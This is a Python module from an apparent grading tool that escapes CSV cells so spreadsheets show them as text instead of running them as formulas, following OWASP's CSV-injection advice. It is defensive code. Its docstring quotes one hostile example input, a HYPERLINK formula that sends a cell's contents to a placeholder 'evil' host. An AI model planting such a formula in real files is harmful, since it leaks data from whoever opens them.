"""CSV cells that a spreadsheet shows as text and never runs as a formula (OWASP's "CSV Injection").

Excel, LibreOffice Calc and Google Sheets read a cell whose first character is = + - @, a tab or a
carriage return as a formula: a student who types `=HYPERLINK("http://evil/?"&A1, "grade")` as their
name would run it on the instructor's machine. As OWASP advises, every such cell gets a leading single
quote (shown by no spreadsheet, which takes it as "this is text"), and every field is wrapped in
double quotes, inner quotes doubled (csv.QUOTE_ALL), so that a reader that honours the quotes never
starts a new cell inside a field. ASVS 1.2.10 adds NUL to the list; a cell whose first non-blank
character is one of them is quoted too (" =1+1").

A spreadsheet that guesses another separator (";" in many locales, a tab) or ignores the quotes would
start a new cell inside a field, after a separator: so the same rule holds at every place a cell could
start, the field's beginning and just after each comma, semicolon, tab or line break (blanks skipped).
There, a formula character, or a single quote, gets a single quote before it; read_cell removes exactly
those, so the file read back gives the very text written. Where a spreadsheet does split the field, the
quote hides; where it does not, it shows ("Lee, '@home"): the price of never running a formula.

Numbers the grader writes (scores, seconds) pass through number_cell, which keeps a plain decimal number
as it is, a negative one included: "-2.5" is a constant, not a formula. (No column of the gradebook is
negative today: scores and seconds are >= 0; anything in such a column that is not a plain number is
quoted like text.)
"""

import csv
import io
import re

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\0")  # OWASP's list, and NUL (ASVS 1.2.10)
QUOTE = "'"
CELL_START = r"(^|[,;\t\r\n])( *)"  # where a cell may start: the field's beginning, or after a separator; blanks skipped
NEEDS_QUOTE = re.compile(CELL_START + r"(?=[=+\-@\t\r\0'])")
ADDED_QUOTE = re.compile(CELL_START + QUOTE)
NUMBER = re.compile(r"-?[0-9]+(\.[0-9]+)?([eE][-+]?[0-9]+)?")  # what number_cell keeps as a number


def text_cell(text: str) -> str:
    """text as a cell no spreadsheet evaluates: a ' before a formula character or a ' at every place a
    cell could start (the beginning, or after a separator and blanks), so read_cell can undo it."""
    return NEEDS_QUOTE.sub(lambda m: m.group(0) + QUOTE, str(text))


def number_cell(text: str) -> str:
    """A numeric column's cell: a plain decimal number as it is (negative or not), anything else as text_cell."""
    text = str(text)
    return text if NUMBER.fullmatch(text) else text_cell(text)


def read_cell(text: str) -> str:
    """The text that text_cell (or number_cell) was given: the quote it added at each cell start removed."""
    return ADDED_QUOTE.sub(lambda m: m.group(1) + m.group(2), text)


def write_csv(fieldnames, rows, numeric=()) -> str:
    """The text of a CSV file: a header, then each row ({column: text}); every field double-quoted,
    the columns in `numeric` through number_cell and the others through text_cell."""
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=fieldnames, quoting=csv.QUOTE_ALL, lineterminator="\n")
    writer.writerow({c: writable(text_cell(c)) for c in fieldnames})
    for row in rows:
        writer.writerow({c: writable((number_cell if c in numeric else text_cell)(row.get(c, ""))) for c in fieldnames})
    return out.getvalue()


def writable(cell: str) -> str:
    """The cell with each NUL, which Python 3.10's csv module cannot write and no name holds, as U+FFFD."""
    return cell.replace("\0", "\ufffd")


def read_csv(text: str) -> tuple:
    """(header, [{column: text}]) of a CSV written by write_csv, every cell through read_cell."""
    reader = csv.reader(io.StringIO(text))
    header = [read_cell(c) for c in next(reader, [])]
    return header, [{c: read_cell(line[i]) if i < len(line) else "" for i, c in enumerate(header)} for line in reader]
